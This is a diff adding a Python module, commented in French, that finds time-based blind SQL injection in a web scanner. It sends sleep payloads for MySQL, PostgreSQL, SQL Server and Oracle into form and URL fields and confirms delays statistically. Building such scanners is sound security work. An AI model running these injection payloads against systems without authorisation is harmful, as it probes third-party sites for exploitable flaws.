@@ -0,0 +1,250 @@
+"""
+Détection des injections SQL aveugles par délai (time-based)
+
+Pour chaque requête testée (page à paramètres, formulaire), plusieurs
+échantillons de référence sont envoyés en parallèle pour mesurer la latence
+de la cible (moyenne et écart type). Des payloads de mise en sommeil propres à
+chaque SGBD sont ensuite envoyés : les champs sont testés en parallèle, les
+variantes d'un même champ une par une jusqu'à la première retardée. Une réponse
+est retardée si son excès de latence dépasse `zscore` écarts types et couvre
+l'essentiel du délai demandé.
+
+Un délai isolé peut venir d'un pic de charge : chaque champ retardé est
+confirmé par une requête témoin (délai nul, qui doit rester dans la
+distribution de référence) puis par le même payload avec un délai double, qui
+doit allonger la réponse d'autant. Un champ n'a donc jamais plus d'une requête
+en sommeil à la fois. Tant que les champs en cours de test ne dépassent pas la
+concurrence du moteur d'injection (INJECTION_CONCURRENCY, par défaut
+HTTP_MAX_PER_HOST), le temps ajouté est d'environ un délai pour une page
+vulnérable (trois avec la confirmation), plus un aller-retour par variante non
+retardée ; au-delà, les champs sont testés par vagues successives.
+"""
+import math
+import os
+import statistics
+from typing import NamedTuple
+from scanners.injection_engine import InjectionEngine, InjectionProbe
+
+# Payloads de mise en sommeil : (SGBD, gabarit)
+# {value} est la valeur d'origine du champ (contexte chaîne), {number} une
+# valeur numérique (contexte entier), {delay} le délai en secondes.
+# SQLite n'a pas de fonction de mise en sommeil : les requêtes lourdes
+# (RANDOMBLOB) ont une durée imprévisible et chargent la cible, elles ne sont
+# pas utilisées.
+TIME_PAYLOADS = [
+    ("MySQL", "{value}' AND (SELECT 1 FROM (SELECT SLEEP({delay}))x)-- -"),
+    ("MySQL", "{number} AND (SELECT 1 FROM (SELECT SLEEP({delay}))x)"),
+    ("PostgreSQL", "{value}' AND 1=(SELECT 1 FROM PG_SLEEP({delay}))--"),
+    ("PostgreSQL", "{number} AND 1=(SELECT 1 FROM PG_SLEEP({delay}))"),
+    ("Microsoft SQL Server", "{value}';WAITFOR DELAY '0:0:{delay}'--"),
+    ("Microsoft SQL Server", "{number};WAITFOR DELAY '0:0:{delay}'--"),
+    ("Oracle", "{value}' AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',{delay})--"),
+    ("Oracle", "{number} AND 1=DBMS_PIPE.RECEIVE_MESSAGE('x',{delay})"),
+]
+
+# Part minimale du délai demandé que doit couvrir l'excès de latence
+DELAY_RATIO = 0.8
+
+# Écart type minimal (secondes) : une cible locale très régulière ne doit pas
+# rendre significatif le moindre écart de quelques millisecondes
+MIN_STDEV = 0.05
+
+# Délai maximal, doublé à la confirmation (WAITFOR DELAY '0:0:ss' n'accepte pas plus de 59 secondes)
+MAX_DELAY = 29
+
+
+class InjectionPoint(NamedTuple):
+    """
+    Champ testé : requête de référence et nom du champ injecté
+
+    values contient tous les paramètres (GET) ou champs (POST) de la requête de
+    référence ; context est recopié dans le contexte des probes.
+    """
+    method: str
+    url: str
+    field: str
+    values: dict
+    context: dict
+
+    @property
+    def request_key(self) -> tuple:
+        """Requête de référence (commune à tous les champs d'un même formulaire)"""
+        return (self.method, self.url, tuple(sorted((name, str(value)) for name, value in self.values.items())))
+
+
+class LatencyBaseline(NamedTuple):
+    """Distribution de la latence d'une requête sans payload"""
+    mean: float
+    stdev: float
+    samples: int
+
+    def zscore(self, elapsed: float) -> float:
+        return (elapsed - self.mean) / self.stdev
+
+
+class BlindSQLiDetector:
+    def __init__(self, engine: InjectionEngine = None, delay: int = None, samples: int = None,
+                 zscore: float = None):
+        """
+        Détecteur d'injections SQL aveugles par délai
+
+        Args:
+            engine: Moteur d'injection du scanner SQLi
+            delay: Délai injecté en secondes (BLIND_SQLI_DELAY, défaut 3)
+            samples: Échantillons de référence par requête (BLIND_SQLI_SAMPLES, défaut 5)
+            zscore: Écarts types au-delà desquels une réponse est retardée (BLIND_SQLI_ZSCORE, défaut 3)
+        """
+        self.engine = engine or InjectionEngine()
+        self.delay = delay or int(os.getenv('BLIND_SQLI_DELAY', '3'))
+        self.samples = max(2, samples or int(os.getenv('BLIND_SQLI_SAMPLES', '5')))
+        self.zscore = zscore or float(os.getenv('BLIND_SQLI_ZSCORE', '3'))
+
+    def detect(self, points):
+        """
+        Tester des champs par injection de délais
+
+        Args:
+            points: Liste d'InjectionPoint
+
+        Returns:
+            Liste de tuples (point, probe, verdict), au plus un par champ ; le
+            verdict contient le SGBD, le délai et les latences mesurées
+        """
+        baselines = self._measure_baselines(points)
+
+        # Un groupe par champ : variantes envoyées une par une, arrêt au premier SGBD retardé
+        groups = []
+        for point in points:
+            baseline = baselines.get(point.request_key)
+            if baseline is None:
+                continue
+            delay = self._delay_for(baseline)
+            if delay is None:
+                print(f"[!] Latence trop instable pour le test par délai de {point.url} "
+                      f"({baseline.mean:.2f}s ± {baseline.stdev:.2f}s)")
+                continue
+            groups.append([
+                self._probe(point, dbms, template, delay, baseline,
+                            check=self._delay_check(baseline, delay))
+                for dbms, template in TIME_PAYLOADS
+            ])
+        candidates = [
+            (probe.context['point'], probe, dict(verdict, dbms=probe.context['dbms']))
+            for probe, response, verdict in self.engine.run(groups)
+        ]
+        if not candidates:
+            return []
+        return self._confirm(candidates, baselines)
+
+    def _measure_baselines(self, points) -> dict:
+        """Latence de référence de chaque requête, échantillons envoyés en parallèle"""
+        requests_by_key = {}
+        for point in points:
+            requests_by_key.setdefault(point.request_key, point)
+        probes = [
+            self._request(point, point.values, timeout=8)
+            for point in requests_by_key.values()
+            for _ in range(self.samples)
+        ]
+        responses = self.engine.fetch(probes)
+
+        baselines = {}
+        for index, key in enumerate(requests_by_key):
+            timings = [
+                response.elapsed.total_seconds()
+                for response in responses[index * self.samples:(index + 1) * self.samples]
+                if response is not None
+            ]
+            if len(timings) >= 2:
+                baselines[key] = LatencyBaseline(
+                    statistics.mean(timings), max(statistics.stdev(timings), MIN_STDEV), len(timings)
+                )
+        return baselines
+
+    def _delay_for(self, baseline: LatencyBaseline):
+        """Délai injecté : au moins `zscore` écarts types pour rester discernable du bruit"""
+        delay = max(self.delay, math.ceil(self.zscore * baseline.stdev / DELAY_RATIO))
+        return delay if delay <= MAX_DELAY else None
+
+    def _confirm(self, candidates, baselines):
+        """Confirmer les champs retardés : témoin sans délai, puis délai double"""
+        # Témoins envoyés seuls : aucune requête retardée ne les ralentit côté serveur
+        controls = self.engine.fetch([
+            self._probe(point, probe.context['dbms'], probe.context['template'], 0,
+                        baselines[point.request_key])
+            for point, probe, verdict in candidates
+        ])
+        confirmations = self.engine.fetch([
+            self._probe(point, probe.context['dbms'], probe.context['template'], verdict['delay'] * 2,
+                        baselines[point.request_key])
+            for point, probe, verdict in candidates
+        ])
+
+        confirmed = []
+        for (point, probe, verdict), control, confirmation in zip(candidates, controls, confirmations):
+            if control is None or confirmation is None:
+                continue
+            baseline = baselines[point.request_key]
+            delay = verdict['delay']
+            control_elapsed = control.elapsed.total_seconds()
+            confirmation_elapsed = confirmation.elapsed.total_seconds()
+            if baseline.zscore(control_elapsed) >= self.zscore:
+                continue
+            if not self._is_delayed(baseline, confirmation_elapsed, delay * 2):
+                continue
+            # Le délai double doit allonger la réponse d'environ un délai
+            if confirmation_elapsed - verdict['elapsed'] < DELAY_RATIO * delay:
+                continue
+            confirmed.append((point, probe, dict(
+                verdict,
+                control_elapsed=round(control_elapsed, 3),
+                confirmation_elapsed=round(confirmation_elapsed, 3),
+                baseline_mean=round(baseline.mean, 3),
+                baseline_stdev=round(baseline.stdev, 3),
+                baseline_samples=baseline.samples
+            )))
+        return confirmed
+
+    def _is_delayed(self, baseline: LatencyBaseline, elapsed: float, delay: int) -> bool:
+        """Réponse retardée : excès significatif et couvrant l'essentiel du délai demandé"""
+        return (elapsed - baseline.mean >= DELAY_RATIO * delay
+                and baseline.zscore(elapsed) >= self.zscore)
+
+    def _delay_check(self, baseline: LatencyBaseline, delay: int):
+        """Vérification appliquée à la réponse d'un probe : {'type': 'time', ...} ou None"""
+        def check(response):
+            elapsed = response.elapsed.total_seconds()
+            if not self._is_delayed(baseline, elapsed, delay):
+                return None
+            return {'type': 'time', 'delay': delay, 'elapsed': round(elapsed, 3),
+                    'zscore': round(baseline.zscore(elapsed), 1)}
+        return check
+
+    def _probe(self, point: InjectionPoint, dbms: str, template: str, delay: int,
+               baseline: LatencyBaseline, check=None) -> InjectionProbe:
+        """Probe d'un payload de mise en sommeil sur un champ"""
+        original = point.values.get(point.field, '')
+        if isinstance(original, list):
+            original = original[0] if original else ''
+        number = original if original.lstrip('-').isdigit() else '1'
+        payload = template.format(value=original, number=number, delay=delay)
+
+        values = dict(point.values)
+        values[point.field] = payload
+        probe = self._request(point, values, timeout=8 + baseline.mean + delay, payload=payload, check=check)
+        probe.context.update(point=point, dbms=dbms, template=template)
+        return probe
+
+    def _request(self, point: InjectionPoint, values: dict, timeout: float, payload: str = None,
+                 check=None) -> InjectionProbe:
+        """Requête de la cible avec les valeurs données"""
+        return InjectionProbe(
+            point.method,
+            point.url,
+            payload=payload,
+            params=values if point.method != 'post' else None,
+            data=values if point.method == 'post' else None,
+            timeout=timeout,
+            check=check,
+            context=dict(point.context)
+        )